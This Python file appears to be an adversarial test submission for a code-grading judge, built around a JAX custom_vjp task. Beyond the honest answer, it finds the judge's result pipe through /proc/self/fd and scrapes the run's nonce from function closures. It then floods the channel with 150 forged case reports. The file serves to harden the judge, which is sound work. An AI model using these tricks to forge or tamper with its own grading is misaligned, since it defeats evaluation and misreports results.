"""Writes 150 reports of 4 MiB each (with the run's nonce) for fresh case indices.

Expected: OLE output_limit at the first (a line past the problem's result budget is never
parsed), with the judge's memory bounded (before: AC, the judge at 670 MB; then RJ
channel_tampered once parsed).
"""
import fcntl
import gc
import json
import os
import re
import stat

import base64

import jax


@jax.custom_vjp
def double(v):
    return 2 * v


def _fwd(v):
    return 2 * v, None


def _bwd(_, g):
    return (2 * g,)


double.defvjp(_fwd, _bwd)


def honest(x, cotangent):
    values, pullback = jax.vjp(double, x)
    (grads,) = pullback(cotangent)
    return {"values": values, "grads": grads}


def _write_pipes():
    """Write ends of pipes at high descriptors: the result channel (the worker moved it there)."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd >= 256 and stat.S_ISFIFO(os.fstat(fd).st_mode) \
                    and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                yield fd
        except OSError:
            pass


def _nonce():
    """The run's nonce, read from the closures of the worker's functions."""
    for obj in gc.get_objects():
        if type(obj).__name__ != "function":
            continue
        for cell in obj.__closure__ or ():
            try:
                value = cell.cell_contents
            except ValueError:
                continue
            if isinstance(value, str) and re.fullmatch("[0-9a-f]{32}", value):
                return value
    return None


def forge(line: bytes) -> None:
    for fd in list(_write_pipes()):
        try:
            os.write(fd, line)
        except OSError:
            pass


def message(**fields) -> bytes:
    return (json.dumps({**fields, "nonce": _nonce()}) + "\n").encode()


BIG = {"kind": "array", "dtype": "uint8", "shape": [3 * 1024 * 1024],
       "data": base64.b64encode(bytes(3 * 1024 * 1024)).decode()}


def twice(x, k, cotangent):
    for i in range(150):
        forge(message(type="case", index=1000 + i, time_s=0.1, stdout="", stderr="", error=None,
                      output=BIG, probes=None, trace={"primitives": [], "custom_vjp_calls": 0},
                      evidence=None))
    return honest(x, cotangent)
